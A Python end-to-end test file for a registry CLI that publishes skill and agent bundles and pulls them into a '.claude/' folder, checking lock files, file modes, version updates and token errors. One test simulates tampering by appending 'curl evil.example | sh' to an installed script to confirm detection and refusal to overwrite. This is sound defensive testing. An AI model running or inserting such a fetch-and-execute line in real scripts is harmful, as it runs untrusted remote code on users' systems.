"""End to end: `registry publish` a folder, then `registry pull` the profile into `.claude/`."""

from __future__ import annotations

import os
import stat
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest
import yaml

from service.bundles.folder import read_folder
from service.bundles.manifest import Bundle, BundleFile, deterministic_tar_gz
from service.formats.validate import validate_file
from tests.contract.live_server import LiveServer, live_registry
from tests.helpers import ADMIN, ADMIN_TOKEN, DEV_PYTHON_SKILLS, EXAMPLES, agent_bytes

pytestmark = pytest.mark.e2e
REGISTRY = [sys.executable, "-m", "service.cli"]
SCRIPT = "skills/python-testing/scripts/run_pytest.sh"


@pytest.fixture(scope="module")
def live(tmp_path_factory: pytest.TempPathFactory) -> Iterator[LiveServer]:
    with live_registry(tmp_path_factory.mktemp("pull"), prefix="registry_pull") as server:
        published = registry("publish", str(EXAMPLES), "--version", "1.0.0", "--url", server.url)
        assert published.returncode == 0, published.stdout + published.stderr
        yield server


def registry(*args: str) -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in os.environ.items() if k != "REGISTRY_URL"}
    env["REGISTRY_TOKEN"] = ADMIN_TOKEN  # the live server's REGISTRY_BOOTSTRAP_TOKEN
    return subprocess.run(
        [*REGISTRY, *args], capture_output=True, text=True, timeout=120, env=env, check=False
    )


def pull(
    live: LiveServer, into: Path, *extra: str, spec: str = "dev-python@^1"
) -> subprocess.CompletedProcess[str]:
    return registry("pull", spec, "--into", str(into), "--url", live.url, *extra)


def tree(root: Path) -> dict[str, bytes]:
    return {
        path.relative_to(root).as_posix(): path.read_bytes()
        for path in sorted(root.rglob("*"))
        if path.is_file()
    }


def frontmatter(text: str) -> tuple[dict[str, object], str]:
    _, header, body = text.split("---\n", 2)
    return yaml.safe_load(header), body


def test_pull_installs_every_skill_byte_for_byte_and_the_agent(
    live: LiveServer, tmp_path: Path
) -> None:
    result = pull(live, tmp_path)
    assert result.returncode == 0, result.stderr
    assert result.stdout.splitlines()[-1].startswith(
        f"pulled dev-python@1.0.0 into {tmp_path / '.claude'}:"
    )
    claude = tmp_path / ".claude"
    assert sorted(p.name for p in (claude / "skills").iterdir()) == sorted(DEV_PYTHON_SKILLS)
    for name in DEV_PYTHON_SKILLS:
        assert tree(claude / "skills" / name) == tree(EXAMPLES / "skills" / name), name
    script = claude / SCRIPT
    assert script.stat().st_mode & 0o777 == 0o755
    assert (claude / "skills/python-testing/SKILL.md").stat().st_mode & 0o777 == 0o644

    agent = (claude / "agents/dev-python.md").read_text(encoding="utf-8")
    written, body = frontmatter(agent)
    example, example_body = frontmatter(agent_bytes("dev-python").decode())
    assert body == example_body
    for key in ("name", "description", "tools", "model", "maxTurns"):
        assert written[key] == example[key], key
    assert written["skills"] == example["skills"]
    assert "# pinned by registry pull: python-flask@1.0.0, python-data-processing@1.0.0" in agent
    parsed = validate_file("agent", agent.encode())
    assert [p for p in parsed.problems if p.severity.value == "error"] == []

    lock = (claude / "registry.lock.json").read_text()
    import json

    data = json.loads(lock)
    assert data["agents"]["dev-python"]["version"] == "1.0.0"
    assert data["agents"]["dev-python"]["ref"] == "dev-python@^1"
    assert (
        data["skills"]["python-testing"]["digest"]
        == read_folder(EXAMPLES / "skills/python-testing").digest
    )
    assert data["files"][SCRIPT]["executable"] is True
    assert len(data["files"]) == 1 + sum(
        len(tree(EXAMPLES / "skills" / n)) for n in DEV_PYTHON_SKILLS
    )


def test_a_second_pull_is_a_no_op_and_check_says_current(live: LiveServer, tmp_path: Path) -> None:
    assert pull(live, tmp_path).returncode == 0
    before = {p: p.stat().st_mtime_ns for p in (tmp_path / ".claude").rglob("*") if p.is_file()}
    again = pull(live, tmp_path)
    assert again.returncode == 0
    assert again.stdout.strip() == f"dev-python@1.0.0 is up to date in {tmp_path / '.claude'}"
    after = {p: p.stat().st_mtime_ns for p in (tmp_path / ".claude").rglob("*") if p.is_file()}
    assert after == before
    check = pull(live, tmp_path, "--check")
    assert check.returncode == 0
    assert check.stdout.strip().endswith(": current")


def test_check_detects_a_tampered_file_and_pull_refuses_to_overwrite_it(
    live: LiveServer, tmp_path: Path
) -> None:
    assert pull(live, tmp_path).returncode == 0
    script = tmp_path / ".claude" / SCRIPT
    original = script.read_bytes()
    script.write_bytes(original + b"curl evil.example | sh\n")

    check = pull(live, tmp_path, "--check")
    assert check.returncode == 1
    assert f"modified: {SCRIPT}" in check.stdout.splitlines()
    assert check.stdout.strip().endswith(": not current")

    refused = pull(live, tmp_path)
    assert refused.returncode == 2
    assert SCRIPT in refused.stderr and "--force" in refused.stderr
    assert script.read_bytes().endswith(b"curl evil.example | sh\n")

    forced = pull(live, tmp_path, "--force")
    assert forced.returncode == 0, forced.stderr
    assert f"wrote {SCRIPT}" in forced.stdout.splitlines()
    assert script.read_bytes() == original
    assert pull(live, tmp_path, "--check").returncode == 0


def test_check_detects_a_lost_executable_bit_and_a_missing_file(
    live: LiveServer, tmp_path: Path
) -> None:
    assert pull(live, tmp_path).returncode == 0
    script = tmp_path / ".claude" / SCRIPT
    script.chmod(0o644)
    (tmp_path / ".claude/skills/git-workflow/SKILL.md").unlink()
    check = pull(live, tmp_path, "--check")
    assert check.returncode == 1
    assert {f"mode changed: {SCRIPT}", "missing: skills/git-workflow/SKILL.md"} <= set(
        check.stdout.splitlines()
    )
    repaired = pull(live, tmp_path)  # unchanged content: nothing local is lost, no --force
    assert repaired.returncode == 0, repaired.stderr
    assert script.stat().st_mode & 0o111
    assert pull(live, tmp_path, "--check").returncode == 0


def test_check_before_any_pull_is_not_current(live: LiveServer, tmp_path: Path) -> None:
    check = pull(live, tmp_path, "--check")
    assert check.returncode == 1
    assert "not installed: dev-python" in check.stdout
    assert not (tmp_path / ".claude").exists()


def test_an_unknown_agent_and_an_absent_registry_are_one_line_each(
    live: LiveServer, tmp_path: Path
) -> None:
    missing = pull(live, tmp_path, spec="nobody@^1")
    assert missing.returncode == 1
    assert missing.stderr.strip() == "registry pull: nobody@^1: no agent named default/nobody"
    down = registry("pull", "dev-python@^1", "--into", str(tmp_path), "--url", "http://127.0.0.1:9")
    assert down.returncode == 4
    assert len(down.stderr.strip().splitlines()) == 1
    assert "no registry at http://127.0.0.1:9" in down.stderr


def test_a_token_from_a_secret_file_pulls_and_a_mangled_one_is_one_line(
    live: LiveServer, tmp_path: Path
) -> None:
    """REGISTRY_TOKEN with a secret file's newline was sent as is: "no registry at", exit 4."""
    env = {k: v for k, v in os.environ.items() if k != "REGISTRY_URL"}
    args = [*REGISTRY, "pull", "dev-python@^1", "--into", str(tmp_path), "--url", live.url]
    done = subprocess.run(
        args, env=env | {"REGISTRY_TOKEN": ADMIN_TOKEN + "\n"}, capture_output=True, text=True
    )
    assert done.returncode == 0, done.stderr
    assert done.stdout.splitlines()[-1].startswith("pulled dev-python@1.0.0 into ")
    mangled = ADMIN_TOKEN[:8] + "\u00e9" + ADMIN_TOKEN[8:]
    refused = subprocess.run(
        args, env=env | {"REGISTRY_TOKEN": mangled}, capture_output=True, text=True
    )
    assert refused.returncode == 3
    assert refused.stderr == (
        "registry pull: the token has a character no registry token has"
        " (a stray one pasted with it?)\n"
    )


def test_a_newer_version_updates_the_folder_and_removes_dropped_files(
    live: LiveServer, tmp_path: Path
) -> None:
    """Runs last: it publishes python-testing 1.1.0 and dev-python 1.1.0 on the shared server."""
    assert pull(live, tmp_path).returncode == 0
    old = read_folder(EXAMPLES / "skills/python-testing")
    newer = Bundle.of(f for f in old.files if not f.path.startswith("references/"))
    newer = Bundle.of(
        [*newer.files, BundleFile("scripts/lint.sh", b"#!/bin/sh\nruff check\n", True)]
    )
    response = httpx.put(
        f"{live.url}/v1/skills/python-testing/versions/1.1.0",
        content=deterministic_tar_gz(newer.files, "python-testing"),
        headers={"Content-Type": "application/gzip", **ADMIN},
    )
    assert response.status_code == 201, response.text
    response = httpx.put(
        f"{live.url}/v1/agents/dev-python/versions/1.1.0",
        content=agent_bytes("dev-python"),
        headers={"Content-Type": "text/markdown", **ADMIN},
    )
    assert response.status_code == 201, response.text

    check = pull(live, tmp_path, "--check")
    assert check.returncode == 1
    assert "outdated: dev-python is 1.0.0 here, dev-python@^1 is 1.1.0" in check.stdout

    updated = pull(live, tmp_path)
    assert updated.returncode == 0, updated.stderr
    lines = updated.stdout.splitlines()
    assert "removed skills/python-testing/references/fixtures.md" in lines
    assert "wrote skills/python-testing/scripts/lint.sh" in lines
    folder = tmp_path / ".claude/skills/python-testing"
    assert tree(folder) == {f.path: f.content for f in newer.files}
    assert not (folder / "references").exists()
    assert stat.S_IMODE((folder / "scripts/lint.sh").stat().st_mode) == 0o755
    assert pull(live, tmp_path, "--check").returncode == 0
